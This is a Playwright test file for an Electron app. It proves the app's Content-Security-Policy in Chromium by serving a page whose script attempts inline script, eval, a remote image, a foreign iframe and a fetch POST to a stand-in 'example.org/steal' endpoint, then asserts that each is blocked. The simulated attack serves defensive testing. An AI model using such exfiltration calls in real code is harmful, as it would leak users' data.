import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createHandlers } from '../../electron/core/handlers';
import { StoreSession } from '../../electron/core/store/session';
import { startHost } from '../../electron/host/server';
import { CONTENT_SECURITY_POLICY } from '../../shared/security/contentSecurityPolicy';
import { expect, test } from './fixtures';

/**
 * Issue #12 item 8: the Content-Security-Policy proven in Chromium, not only read in a header. The
 * browser host sends the policy Electron's app:// protocol sends (shared/security/
 * contentSecurityPolicy.ts). The attack has to run as the page's own script: code Playwright
 * evaluates through DevTools is exempt from CSP (eval would "work" there). So a host with the real
 * server and policy serves a page whose one allowed script ('self') tries what injected code would
 * try; Chromium must block each and report a `securitypolicyviolation`.
 */
const ATTACK = `
window.outcome = { violations: [], inlineRan: false, evalRan: false, fetched: false, done: false };
document.addEventListener('securitypolicyviolation', (e) => window.outcome.violations.push(e.effectiveDirective + ' ' + e.blockedURI));
const script = document.createElement('script');
script.textContent = 'window.outcome.inlineRan = true;';
document.body.append(script);
try { window.outcome.evalRan = eval('1 + 1') === 2; } catch { window.outcome.evalRan = false; }
try { window.outcome.evalRan = window.outcome.evalRan || new Function('return 2')() === 2; } catch { /* blocked */ }
const img = document.createElement('img');
img.src = 'https://example.org/pixel.png';
document.body.append(img);
const frame = document.createElement('iframe');
frame.src = 'https://example.org/';
document.body.append(frame);
fetch('https://example.org/steal', { method: 'POST', body: 'x' })
  .then(() => { window.outcome.fetched = true; }, () => { window.outcome.fetched = false; })
  .finally(() => { window.outcome.done = true; });
`;

test.describe('Issue #12 item 8: the Content-Security-Policy holds in Chromium', () => {
  test('inline script, eval, a remote fetch, a remote image and a foreign frame are each blocked and reported', async ({ page }) => {
    const dir = mkdtempSync(join(tmpdir(), 'werkbank-csp-'));
    writeFileSync(join(dir, 'index.html'), '<!doctype html><html lang="nl"><head><title>csp</title></head><body><script src="./attack.js"></script></body></html>');
    writeFileSync(join(dir, 'attack.js'), ATTACK);
    const session = new StoreSession(join(dir, 'data'));
    const host = await startHost({ rendererDir: dir, handlers: createHandlers({ session, actor: 'e2e' }) });
    try {
      const response = await page.goto(host.startUrl());
      expect(response?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
      await page.waitForFunction(() => {
        const o = (window as unknown as { outcome?: { done: boolean; violations: string[] } }).outcome;
        return o !== undefined && o.done && o.violations.length >= 6;
      });
      const outcome = await page.evaluate(() => (window as unknown as { outcome: { violations: string[]; inlineRan: boolean; evalRan: boolean; fetched: boolean } }).outcome);
      expect(outcome.inlineRan).toBe(false);
      expect(outcome.evalRan).toBe(false);
      expect(outcome.fetched).toBe(false);
      expect([...outcome.violations].sort()).toEqual(
        [
          'connect-src https://example.org/steal',
          'frame-src https://example.org', // Chromium reports a frame's origin only
          'img-src https://example.org/pixel.png',
          'script-src eval',
          'script-src eval',
          'script-src-elem inline',
        ].sort(),
      );
    } finally {
      await host.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
